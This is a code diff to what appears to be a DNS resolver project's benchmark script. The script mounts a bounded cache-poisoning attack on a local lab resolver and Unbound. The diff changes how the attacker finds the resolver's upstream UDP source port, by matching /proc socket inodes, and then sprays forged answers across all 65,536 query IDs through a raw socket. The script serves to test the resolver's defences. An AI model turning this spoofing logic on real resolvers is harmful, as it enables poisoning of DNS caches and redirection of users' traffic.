@@ -1,18 +1,19 @@
 #!/usr/bin/env python3
 """Forged-answer (cache poisoning) attack on the offline lab: how many of N trials end poisoned.
 
-  bench/attacks/spoof.py --ternd build/lab-release/resolver/ternd/ternd [--net 127.53]
+  bench/attacks/spoof.py --ternd build/lab-release/resolver/ternd [--net 127.53]
                          [--trials 20] [--trial-seconds 4] [--defences on|off|both]
                          [--unbound /usr/sbin/unbound] [--fault PATH] [--json FILE]
                          [--expect-clean]
   (`make bench-spoof` runs it with --defences both and Unbound when installed.)
 
 Model: a local attacker who knows the upstream source port ("the attacker knows the port"). In the
-lab it learns the port by reading /proc/net/udp, where ternd's upstream socket shows up connected
-to the slow lab authority (the fault authority's `delay` address, which answers after 400 ms).
+lab it learns the port from /proc: the resolver's socket inodes (/proc/PID/fd) matched in
+/proc/net/udp, keeping the sockets connected to the slow lab authority (the fault authority's
+`delay` address, which answers after 400 ms) or unconnected, other than the listening socket.
 For every new such socket it sprays forged answers for all 65,536 IDs from the authority's address
 and port 53 (a raw socket, so root is needed), each claiming the trial's name has
-A 127.66.6.6 with AA set. A trial asks ternd for a fresh name under the delay zone and counts as
+A 127.66.6.6 with AA set. A trial asks the resolver for a fresh name under the delay zone and counts as
 poisoned when the answer carries 127.66.6.6.
 
 Bounded: each trial lasts at most --trial-seconds (default 4), the spray stops with the trial, and
@@ -89,18 +90,41 @@ def hex_endpoint(ip, port):
     return "%08X:%04X" % (struct.unpack("<I", socket.inet_aton(ip))[0], port)
 
 
-def sockets_to(remote_hex):
-    """[(local_ip, local_port)] of the UDP sockets connected to remote_hex ("0303357F:0035")."""
+def socket_inodes(pid):
+    """The inodes of the sockets process `pid` holds open."""
+    out = set()
+    try:
+        for fd in os.listdir(f"/proc/{pid}/fd"):
+            try:
+                link = os.readlink(f"/proc/{pid}/fd/{fd}")
+            except OSError:
+                continue
+            if link.startswith("socket:["):
+                out.add(link[8:-1])
+    except OSError:
+        pass
+    return out
+
+
+def upstream_sockets(pid, remote_hex, listen_port):
+    """[(local_ip, local_port)] of the resolver's UDP sockets that may be waiting for the
+    authority: connected to remote_hex ("0303357F:0035"), or unconnected (Unbound's), other than
+    its listening socket. Unconnected ones bound to the wildcard are sprayed on 127.0.0.1."""
+    inodes = socket_inodes(pid)
     out = []
     try:
         with open("/proc/net/udp") as f:
             next(f)
             for line in f:
                 w = line.split()
-                if len(w) > 2 and w[2] == remote_hex:
-                    ip_hex, port_hex = w[1].split(":")
-                    ip = socket.inet_ntoa(struct.pack("<I", int(ip_hex, 16)))
-                    out.append((ip, int(port_hex, 16)))
+                if len(w) < 10 or w[9] not in inodes or w[2] not in (remote_hex, "00000000:0000"):
+                    continue
+                ip_hex, port_hex = w[1].split(":")
+                port = int(port_hex, 16)
+                if port == listen_port:
+                    continue
+                ip = socket.inet_ntoa(struct.pack("<I", int(ip_hex, 16)))
+                out.append(("127.0.0.1" if ip == "0.0.0.0" else ip, port))
     except OSError:
         pass
     return out
@@ -109,8 +133,10 @@ def sockets_to(remote_hex):
 class Sprayer(threading.Thread):
     """Sprays every new upstream socket towards `authority` with all 65,536 IDs until stopped."""
 
-    def __init__(self, authority, qname, deadline):
+    def __init__(self, pid, listen_port, authority, qname, deadline):
         super().__init__(daemon=True)
+        self.pid = pid
+        self.listen_port = listen_port
         self.authority = authority
         self.qname = qname
         self.deadline = deadline
@@ -124,7 +150,8 @@ class Sprayer(threading.Thread):
         seen = set()
         try:
             while not self.stop_event.is_set() and time.monotonic() < self.deadline:
-                fresh = [s for s in sockets_to(remote) if s not in seen]
+                fresh = [s for s in upstream_sockets(self.pid, remote, self.listen_port)
+                         if s not in seen]
                 if not fresh:
                     time.sleep(0.0005)
                     continue
@@ -147,13 +174,13 @@ class Sprayer(threading.Thread):
             raw.close()
 
 
-def run_trials(server, port, zone, authority, trials, trial_seconds, label, log):
+def run_trials(pid, server, port, zone, authority, trials, trial_seconds, label, log):
     poisoned = answered = 0
     packets = ports = 0
     for i in range(trials):
         qname = f"s{i}x{random.randrange(1 << 30):x}.{zone}".lower()
         deadline = time.monotonic() + trial_seconds
-        sprayer = Sprayer(authority, qname, deadline)
+        sprayer = Sprayer(pid, port, authority, qname, deadline)
         sprayer.start()
         resp = dnsmsg.query(server, qname, "A", port=port, timeout=trial_seconds, rd=True,
                             retry=1.0)
@@ -220,6 +247,9 @@ def start_unbound(binary, address, hints, workdir):
                 f"  username: \"\"\n  chroot: \"\"\n  directory: \"{workdir}\"\n  pidfile: \"\"\n"
                 f"  use-syslog: no\n  logfile: \"\"\n  num-threads: 1\n  root-hints: \"{hints}\"\n"
                 "  do-not-query-localhost: no\n  do-ip6: no\n  prefetch: no\n"
+                "  module-config: \"iterator\"\n"
+                # The lab lives under test., which Unbound serves locally by default (RFC 6761).
+                "  local-zone: \"test.\" nodefault\n"
                 "  access-control: 127.0.0.0/8 allow\n")
     return Process([binary, "-d", "-c", conf], os.path.join(workdir, f"unbound-{port}.log")), port
 
@@ -263,7 +293,7 @@ def main(argv=None):
             try:
                 if not wait_answering(address, port, f"www.{zone}"):
                     raise RuntimeError(f"{label} does not answer www.{zone}")
-                results.append(run_trials(address, port, zone, authority, args.trials,
+                results.append(run_trials(proc.proc.pid, address, port, zone, authority, args.trials,
                                           args.trial_seconds, label, log))
             finally:
                 proc.stop()
@@ -273,7 +303,7 @@ def main(argv=None):
             try:
                 if not wait_answering(ub_address, port, f"www.{zone}"):
                     raise RuntimeError(f"unbound does not answer www.{zone}")
-                results.append(run_trials(ub_address, port, zone, authority, args.trials,
+                results.append(run_trials(proc.proc.pid, ub_address, port, zone, authority, args.trials,
                                           args.trial_seconds, "unbound", log))
             finally:
                 proc.stop()
